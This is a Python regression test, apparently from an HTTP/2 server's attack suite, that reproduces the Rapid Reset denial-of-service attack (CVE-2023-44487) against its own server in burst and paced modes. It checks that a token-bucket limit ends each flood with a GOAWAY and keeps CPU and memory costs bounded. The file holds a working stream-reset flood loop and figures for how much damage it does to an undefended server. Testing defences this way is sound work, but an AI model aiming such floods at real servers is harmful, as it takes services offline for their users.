#!/usr/bin/python3
"""Rapid Reset (CVE-2023-44487): HEADERS + RST_STREAM pairs, each opening a
request for /1m.bin and cancelling it at once.

Target: client resets, server-issued resets and stream errors share ONE
token bucket per connection (burst 1000, refill 33/s, as nghttp2); when it
runs dry the connection ends with GOAWAY ENHANCE_YOUR_CALM (0xb). So:
 - burst (pairs as fast as possible): GOAWAY after about 1000 resets;
 - paced at 180 resets/s: GOAWAY after about 1000/(180-33) = 6.8 s.

/1m.bin keeps each stream open (its response waits on flow control) until
the reset arrives, so every reset finds an open stream.

Usage: rapid_reset.py LOOM"""
import time

from attack_common import (CANCEL, ENHANCE_YOUR_CALM, check, expect_goaway, headers_frame, main,
                           paced, request_block, rst_stream)

BLOCK = request_block("/1m.bin")
BUCKET, REFILL = 1000, 33  # the target's token bucket

# Bounds. Measured (ASan debug build; shared 2-core machine, idle and at
# load 20): burst: GOAWAY after ~1000 resets in 0.07-0.8 s, server CPU
# 0.02-0.05 s, RSS peak +0.8 MiB; paced: 0.10 s of CPU over 6.8 s, +0.6 MiB.
# Undefended (main before the limits, a Python attacker waiting for each
# batch's answers): ~16000 streams opened and cancelled a second, 0.27 s of
# CPU per second of attack, 2.7 s for 10 s, and without end (a faster
# attacker: a core). The paced attack costs little either way (180 streams
# a second): there the time to the GOAWAY is what tells.
BURST_CPU, BURST_RSS_KIB = 0.5, 8 * 1024
PACED_CPU, PACED_RSS_KIB = 1.0, 8 * 1024
ATTACK_SECONDS = 10.0  # each case's attack stops by then, whatever happens


def pair(sid):
    return headers_frame(sid, BLOCK) + rst_stream(sid, CANCEL)


def streams_before(c):
    """Streams the server took before its GOAWAY (odd ids up to last)."""
    return (c.goaway[2] + 1) // 2


def case_burst(t):
    logged0 = t.server.logged()
    with t.measure() as m:
        c = t.h2()
        t0 = time.monotonic()
        sid = 1
        while time.monotonic() - t0 < ATTACK_SECONDS and not c.goaway and not c.closed:
            if not c.send(b"".join(pair(sid + 2 * i) for i in range(100))):
                break
            sid += 200
        took = expect_goaway(c, ENHANCE_YOUR_CALM, ATTACK_SECONDS, "burst", t0)
        check(c.wait_closed(3), "burst: the connection stays open 3 s after the GOAWAY: %s" %
              c.describe())
        c.close()
    n = streams_before(c)
    logged = t.server.logged() - logged0
    t.note("GOAWAY 0xb after %.2f s, %d streams (%d pairs sent), %d requests logged" %
           (took, n, (sid - 1) // 2, logged))
    hi = BUCKET + REFILL * took + 100
    check(BUCKET * 0.9 <= n <= hi,
          "burst: the server took %d streams before GOAWAY; the bucket (burst %d, refill %d/s) "
          "allows %d-%d in %.2f s" % (n, BUCKET, REFILL, int(BUCKET * 0.9), hi, took))
    check(logged <= hi, "burst: %d requests processed (access log), bound %d" % (logged, hi))
    t.check_cost(m, BURST_CPU, BURST_RSS_KIB)


def case_paced(t, rate=180):
    with t.measure() as m:
        c = t.h2()
        t0 = time.monotonic()
        sent = paced(rate, ATTACK_SECONDS, lambda k: c.send(pair(1 + 2 * k)),
                     stop=lambda: c.goaway or c.closed)
        took = expect_goaway(c, ENHANCE_YOUR_CALM, ATTACK_SECONDS + 0.5, "paced %d/s" % rate, t0)
        check(c.wait_closed(3), "paced: the connection stays open 3 s after the GOAWAY: %s" %
              c.describe())
        c.close()
    want = BUCKET / (rate - REFILL)
    t.note("GOAWAY 0xb after %.2f s (%d pairs sent, %d streams; target %.1f s)" %
           (took, sent, streams_before(c), want))
    check(want * 0.75 <= took <= want * 1.4,
          "paced %d/s: GOAWAY after %.2f s; the bucket (burst %d, refill %d/s) runs dry after "
          "%.1f s (accepted %.1f-%.1f s)" % (rate, took, BUCKET, REFILL, want, want * 0.75,
                                             want * 1.4))
    t.check_cost(m, PACED_CPU, PACED_RSS_KIB)


# the cases, for main() and for `make soak` (tests/attacks/soak.py)
CASES = [("burst", case_burst), ("paced", case_paced)]


if __name__ == "__main__":
    main(CASES)
